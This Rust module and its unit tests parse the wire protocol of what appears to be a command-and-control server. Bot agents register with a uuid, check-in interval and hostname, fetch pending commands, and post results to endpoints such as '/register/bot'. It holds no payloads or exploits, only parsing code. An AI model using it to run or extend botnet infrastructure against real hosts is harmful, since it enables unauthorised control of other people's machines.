//! Agent-facing request shapes.
//!
//! A decoded frame body is `<mode>||<agent-id>||<data>`. The `data` field is
//! interpreted per mode: registration fields, an agent id, or a list of
//! action results.

use serde::Serialize;

/// Separator between the three fields of a request body.
pub const FIELD_SEP: &str = "||";

/// Separator between entries of command and result lists.
pub const LIST_SEP: &str = "<||>";

/// Reply body meaning "no commands pending".
pub const NO_COMMANDS: &str = "0:0:0";

/// Reply body when the core store cannot be reached.
pub const UNREACHABLE: &str = "Error: Unable to reach server";

/// Acknowledgement for a result submission.
pub const DONE: &str = "Done";

/// Result payload sent by an agent with nothing to report.
pub const NO_RESULTS: &str = "None";

/// Operation selected by the one-character mode tag.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// `C`: register an agent with the core store.
    Register,
    /// `D`: fetch pending commands for an agent.
    FetchCommands,
    /// `E`: submit command results.
    SubmitResult,
}

impl Mode {
    /// Map a mode tag to its operation. Unknown tags yield `None`.
    pub fn from_tag(tag: &str) -> Option<Self> {
        match tag {
            "C" => Some(Self::Register),
            "D" => Some(Self::FetchCommands),
            "E" => Some(Self::SubmitResult),
            _ => None,
        }
    }

    pub const fn tag(self) -> &'static str {
        match self {
            Self::Register => "C",
            Self::FetchCommands => "D",
            Self::SubmitResult => "E",
        }
    }
}

/// A decoded request body split into its three fields.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RequestFrame<'a> {
    pub mode_tag: &'a str,
    pub agent_id: &'a str,
    /// Everything after the second separator, further `||` included.
    pub data: &'a str,
}

impl<'a> RequestFrame<'a> {
    /// Split a body into mode, agent id and data.
    ///
    /// Returns `None` when the body holds fewer than three fields.
    pub fn parse(body: &'a str) -> Option<Self> {
        let mut parts = body.splitn(3, FIELD_SEP);
        let mode_tag = parts.next()?;
        let agent_id = parts.next()?;
        let data = parts.next()?;
        Some(Self {
            mode_tag,
            agent_id,
            data,
        })
    }
}

/// Agent registration, forwarded to `/register/bot`.
///
/// Interval and delta stay textual; the core store owns their meaning.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Registration {
    pub uuid: String,
    pub interval: String,
    pub delta: String,
    pub hostname: String,
}

impl Registration {
    /// Parse `uuid||interval||delta||hostname`.
    ///
    /// Fields past the fourth are ignored. Fewer than four yields `None`.
    pub fn parse(data: &str) -> Option<Self> {
        let mut fields = data.split(FIELD_SEP);
        Some(Self {
            uuid: fields.next()?.to_string(),
            interval: fields.next()?.to_string(),
            delta: fields.next()?.to_string(),
            hostname: fields.next()?.to_string(),
        })
    }
}

/// Request body for `/get/command`.
#[derive(Debug, Clone, Serialize)]
pub struct CommandQuery<'a> {
    pub uuid: &'a str,
}

/// One command result, forwarded to `/add/actionresult`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ActionResult {
    pub actionid: String,
    pub data: String,
}

impl ActionResult {
    /// Parse a single `actionid:result` entry.
    ///
    /// Only the text between the first and second `:` is kept as the result;
    /// anything after a second colon is dropped. Entries without a colon
    /// yield `None`.
    pub fn parse_entry(entry: &str) -> Option<Self> {
        let mut parts = entry.split(':');
        let actionid = parts.next()?;
        let data = parts.next()?;
        Some(Self {
            actionid: actionid.to_string(),
            data: data.to_string(),
        })
    }

    /// Parse a `<||>`-joined list of entries, skipping malformed ones.
    pub fn parse_list(data: &str) -> Vec<Self> {
        data.split(LIST_SEP).filter_map(Self::parse_entry).collect()
    }

    /// Whether the action id is an integer the core store will accept.
    pub fn has_numeric_id(&self) -> bool {
        self.actionid.parse::<i64>().is_ok()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mode_tags() {
        assert_eq!(Mode::from_tag("C"), Some(Mode::Register));
        assert_eq!(Mode::from_tag("D"), Some(Mode::FetchCommands));
        assert_eq!(Mode::from_tag("E"), Some(Mode::SubmitResult));
        assert_eq!(Mode::from_tag("Z"), None);
        assert_eq!(Mode::from_tag("c"), None);
        assert_eq!(Mode::from_tag(""), None);
        assert_eq!(Mode::SubmitResult.tag(), "E");
    }

    #[test]
    fn frame_keeps_separators_in_data() {
        let frame = RequestFrame::parse("C||agent-1||u||30||5||host").unwrap();
        assert_eq!(frame.mode_tag, "C");
        assert_eq!(frame.agent_id, "agent-1");
        assert_eq!(frame.data, "u||30||5||host");
    }

    #[test]
    fn frame_allows_empty_fields() {
        let frame = RequestFrame::parse("E||||None").unwrap();
        assert_eq!(frame.agent_id, "");
        assert_eq!(frame.data, "None");
    }

    #[test]
    fn frame_needs_three_fields() {
        assert!(RequestFrame::parse("").is_none());
        assert!(RequestFrame::parse("D").is_none());
        assert!(RequestFrame::parse("D||agent").is_none());
    }

    #[test]
    fn registration_fields_in_order() {
        let reg = Registration::parse("abc-123||30||5||web01").unwrap();
        assert_eq!(reg.uuid, "abc-123");
        assert_eq!(reg.interval, "30");
        assert_eq!(reg.delta, "5");
        assert_eq!(reg.hostname, "web01");

        let json = serde_json::to_value(&reg).unwrap();
        assert_eq!(
            json,
            serde_json::json!({
                "uuid": "abc-123",
                "interval": "30",
                "delta": "5",
                "hostname": "web01"
            })
        );
    }

    #[test]
    fn registration_ignores_extra_fields() {
        let reg = Registration::parse("u||1||2||h||extra").unwrap();
        assert_eq!(reg.hostname, "h");
    }

    #[test]
    fn registration_too_short() {
        assert!(Registration::parse("u||1||2").is_none());
    }

    #[test]
    fn result_entry_truncates_after_second_colon() {
        let res = ActionResult::parse_entry("7:a:b:c").unwrap();
        assert_eq!(res.actionid, "7");
        assert_eq!(res.data, "a");
    }

    #[test]
    fn result_list_skips_entries_without_colon() {
        let list = ActionResult::parse_list("5:ok<||>garbage<||>6:");
        assert_eq!(
            list,
            vec![
                ActionResult {
                    actionid: "5".into(),
                    data: "ok".into()
                },
                ActionResult {
                    actionid: "6".into(),
                    data: String::new()
                },
            ]
        );
    }

    #[test]
    fn numeric_action_ids() {
        assert!(ActionResult::parse_entry("42:x").unwrap().has_numeric_id());
        assert!(ActionResult::parse_entry("-3:x").unwrap().has_numeric_id());
        assert!(!ActionResult::parse_entry("abc:x").unwrap().has_numeric_id());
        assert!(!ActionResult::parse_entry(" 4:x").unwrap().has_numeric_id());
    }
}
